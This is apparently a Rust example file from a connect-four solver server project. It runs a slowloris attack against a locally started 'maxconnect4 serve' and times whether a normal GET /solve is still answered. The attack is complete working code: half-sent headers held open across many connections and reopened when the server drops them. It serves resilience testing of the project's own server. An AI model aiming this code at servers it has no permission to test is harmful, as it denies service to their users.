//! A slowloris attack on a running `maxconnect4 serve`, and whether a
//! normal client is answered during it: opens N connections to ADDR, each
//! sending half a request's headers and then nothing, counts those the
//! server took (it answered nothing, and has not closed them a moment
//! later), then times a normal `GET /solve` while they stay open. The
//! attacker's connections are kept open (and reopened when the server
//! closes them, as a determined attacker does) until the normal request is
//! answered or 30 s have passed.
//!
//! Run: `maxconnect4 serve --addr 127.0.0.1:8765 &` then
//! `cargo run --release --example slowloris -- 127.0.0.1:8765 1000`.
//! The attacker needs N descriptors: raise `ulimit -n` for N beyond 1000.

use std::io::{ErrorKind, Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

/// Half a request: the headers never end.
const HALF: &[u8] = b"POST / HTTP/1.1\r\nHost: x\r\nX-Slow: ";

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let (Some(addr), Some(count)) = (args.first(), args.get(1).and_then(|n| n.parse::<usize>().ok())) else {
        eprintln!("usage: slowloris ADDR N");
        std::process::exit(2);
    };
    let open = |addr: &str| -> Option<TcpStream> {
        let mut stream = TcpStream::connect(addr).ok()?;
        stream.write_all(HALF).ok()?;
        stream.set_nonblocking(true).ok()?;
        Some(stream)
    };
    let mut attackers: Vec<TcpStream> = (0..count).filter_map(|_| open(addr)).collect();
    let connected = attackers.len();
    std::thread::sleep(Duration::from_millis(500));
    // Open, and nothing was answered: a read would wait.
    let alive = |mut stream: &TcpStream| -> bool {
        let mut byte = [0u8; 1];
        matches!(stream.read(&mut byte), Err(error) if error.kind() == ErrorKind::WouldBlock)
    };
    let held = attackers.iter().filter(|stream| alive(stream)).count();
    println!("{connected} half-open connections made, {held} of them still open after 0.5 s");

    // The normal client, on a thread of its own; the attacker keeps up.
    let target = addr.clone();
    let started = Instant::now();
    let normal = std::thread::spawn(move || -> Result<String, String> {
        let mut stream = TcpStream::connect(&target).map_err(|error| error.to_string())?;
        stream.set_read_timeout(Some(Duration::from_secs(30))).map_err(|error| error.to_string())?;
        let request = format!("GET /solve?pos=44 HTTP/1.1\r\nHost: {target}\r\nConnection: close\r\n\r\n");
        stream.write_all(request.as_bytes()).map_err(|error| error.to_string())?;
        let mut response = String::new();
        stream.read_to_string(&mut response).map_err(|error| error.to_string())?;
        Ok(response.lines().next().unwrap_or("(nothing)").to_owned())
    });
    let mut reopened = 0;
    while !normal.is_finished() && started.elapsed() < Duration::from_secs(31) {
        for stream in &mut attackers {
            if !alive(stream) {
                if let Some(again) = open(addr) {
                    *stream = again;
                    reopened += 1;
                }
            }
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    let answer = normal.join().expect("the client thread");
    let seconds = started.elapsed().as_secs_f64();
    match answer {
        Ok(status) if !status.is_empty() => println!("normal request answered in {seconds:.3} s: {status}"),
        Ok(_) | Err(_) => println!("normal request not answered within {seconds:.1} s ({answer:?})"),
    }
    println!("the attacker reopened {reopened} connections the server closed meanwhile");
}
